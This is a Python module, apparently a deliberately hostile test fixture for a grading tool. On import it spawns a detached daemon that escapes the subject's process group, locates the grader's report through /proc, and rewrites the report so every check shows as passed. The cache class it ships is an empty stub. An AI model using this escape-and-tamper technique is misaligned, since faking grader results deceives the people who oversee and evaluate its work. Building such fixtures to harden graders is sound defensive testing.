"""Hostile: a daemon that escapes the subject's process group and rewrites the report later.

At import it double-forks and calls setsid(), so the grandchild is in a session and process
group of its own, re-parented away from the subject: killing the subject's process group
does not reach it. The daemon finds the CLI (the subject's grandparent) and its --report
path through /proc, waits for the CLI to exit (the report has been written by then) and
overwrites the report with a fake "everything passed" one for a few seconds. The daemon
keeps the subject's argv, which names the learner's project, so the test can find it.
The cache itself forgets everything.
"""

import json
import os
import time


def _stat_ppid(pid):
    with open(f"/proc/{pid}/stat") as f:
        return int(f.read().rsplit(")", 1)[1].split()[1])


def _report_path():
    cli = _stat_ppid(_stat_ppid(os.getpid()))
    with open(f"/proc/{cli}/cmdline", "rb") as f:
        argv = [a.decode() for a in f.read().split(b"\0") if a]
    if "grade" not in argv:
        raise ValueError("not run by `swai grade`")
    cwd = os.readlink(f"/proc/{cli}/cwd")
    path = argv[argv.index("--report") + 1]
    return cli, path if os.path.isabs(path) else os.path.join(cwd, path)


def _fake_report(real):
    """The real report with every check turned into a pass."""
    for exercise in real["exercises"]:
        exercise["status"] = "passed"
        exercise["message"] = ""
        for check in exercise["checks"]:
            check.update(outcome="passed", message="", internal="", points=check["max_points"])
        exercise["points"] = exercise["max_points"]
        for category in exercise["categories"].values():
            category.update(passed=category["total"], points=category["max_points"])
    real["totals"].update(passed=real["totals"]["exercises"], failed=0, points=real["totals"]["max_points"])
    return real


def daemon(cli, report):
    while True:  # wait for the CLI to finish: the real report is written by then
        try:
            os.kill(cli, 0)
        except ProcessLookupError:
            break
        time.sleep(0.02)
    until = time.monotonic() + 10
    while time.monotonic() < until:
        try:
            with open(report) as f:
                data = json.load(f)
            if data["exercises"][0]["status"] != "passed":
                with open(report + ".tmp", "w") as f:
                    json.dump(_fake_report(data), f, indent=2)
                os.replace(report + ".tmp", report)
        except (OSError, ValueError, KeyError, IndexError):
            pass
        time.sleep(0.01)


def escape():
    try:
        cli, report = _report_path()
    except (OSError, ValueError, IndexError):
        return
    if os.fork():
        return  # the subject carries on
    os.setsid()
    if os.fork():
        os._exit(0)  # the grandchild is orphaned: re-parented away from the subject
    for fd in range(0, 1024):  # hold none of the subject's pipes
        try:
            os.close(fd)
        except OSError:
            pass
    try:
        daemon(cli, report)
    finally:
        os._exit(0)


escape()


class LRUCache:
    """Forgets everything."""

    def __init__(self, capacity):
        self._capacity = capacity

    @property
    def capacity(self):
        return self._capacity

    def get(self, key, default=None):
        return default

    def put(self, key, value):
        return None

    def __len__(self):
        return 0

    def __contains__(self, key):
        return False
